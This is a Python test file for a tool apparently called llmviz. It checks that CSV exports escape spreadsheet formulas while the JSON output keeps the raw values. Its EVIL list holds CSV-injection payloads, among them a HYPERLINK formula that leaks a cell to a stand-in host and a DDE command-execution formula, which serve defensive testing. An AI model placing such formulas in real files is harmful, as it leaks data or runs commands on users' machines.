"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection: text cells starting with = + - @
tab CR get a leading '), in the page's export buttons, the transcript/fill-mask CSVs and the CLI's
--out x.csv; JSON keeps the raw value."""

import csv
import io
import json

import pandas as pd
import pytest

import ui.common as common
from llmviz.cli import main
from llmviz.generation.transcript import rows_csv
from llmviz.report import frame_csv, neutralise_cell, safe_comment

EVIL = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1"]


def _cells(text: str) -> list[list[str]]:
    """The CSV's rows after its ``# key: value`` provenance lines."""
    body = "".join(line for line in io.StringIO(text, newline="") if not line.startswith("# "))
    return list(csv.reader(io.StringIO(body)))


def test_neutralise_cell_rule():
    for v in EVIL:
        assert neutralise_cell(v) == "'" + v
    for v in ("ok", "a=b", " =1", "", 3, -2.5, None):
        assert neutralise_cell(v) == v


class _Col:
    def __init__(self, sink):
        self.sink = sink

    def download_button(self, label, data, file_name, mime, key, **kw):
        self.sink[file_name] = data


def test_page_export_csv_neutralises_and_json_keeps_raw(monkeypatch):
    files = {}
    monkeypatch.setattr(common.st, "columns", lambda n: [_Col(files) for _ in range(n)])
    df = pd.DataFrame({"sent_more": EVIL, "score": [-1.5, 2.0, 0.0, 1.0, 2.0, 3.0]})
    common.export_buttons("k", data=df, stem="pairs")
    rows = _cells(files["pairs.csv"]())
    assert rows[0] == ["sent_more", "score"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL]
    assert [float(r[1]) for r in rows[1:]] == [-1.5, 2.0, 0.0, 1.0, 2.0, 3.0]  # numbers stay numbers
    doc = json.loads(files["pairs.json"]())
    assert [r["sent_more"] for r in doc["data"]] == EVIL


def test_frame_csv_leaves_the_frame_alone():
    df = pd.DataFrame({"=x": ["=1"]})
    assert _cells(frame_csv(df)) == [["'=x"], ["'=1"]]
    assert df.columns[0] == "=x" and df.iloc[0, 0] == "=1"


def test_row_csvs_neutralise_rows_and_provenance_lines():
    text = rows_csv([{"token": v, "p": 0.5} for v in EVIL], {"text": 'a, =HYPERLINK("http://x"), b', "model": "m"})
    lines = text.splitlines()
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in lines[0].split(","))
    body = [r for r in _cells("\n".join(ln for ln in text.split("\n") if not ln.startswith("#"))) if r]
    assert [r[0] for r in body[1:]] == ["'" + v for v in EVIL]
    assert safe_comment("# text: a,=1,b") == "# text: a,'=1,b"


@pytest.fixture
def evil_csv(tmp_path):
    path = tmp_path / "evil.csv"
    pd.DataFrame(
        {
            "sent_more": [EVIL[0], EVIL[1], "The man was strong."],
            "sent_less": ["The woman left.", EVIL[2], "The woman was strong."],
            "stereo_antistereo": ["stereo", "stereo", "antistereo"],
            "bias_type": ["gender", "gender", "gender"],
        }
    ).to_csv(path, index=False)
    return path


def test_cli_csv_out_neutralises_and_json_keeps_raw(tiny_mlm_dir, evil_csv, tmp_path):
    out_csv, out_json = tmp_path / "r.csv", tmp_path / "r.json"
    assert (
        main(
            [
                "bias-audit",
                "--model",
                str(tiny_mlm_dir),
                "--pairs",
                str(evil_csv),
                "--out",
                str(out_csv),
                "--out",
                str(out_json),
                "--n-boot",
                "100",
                "--quiet",
            ]
        )
        == 0
    )
    rows = _cells(out_csv.read_text(encoding="utf-8"))
    assert rows[1][0] == "'" + EVIL[0] and rows[2][0] == "'" + EVIL[1] and rows[2][1] == "'" + EVIL[2]
    assert rows[3][0] == "The man was strong."
    pairs = json.loads(out_json.read_text(encoding="utf-8"))["pairs"]
    assert [p["sent_more"] for p in pairs[:2]] == EVIL[:2] and pairs[1]["sent_less"] == EVIL[2]
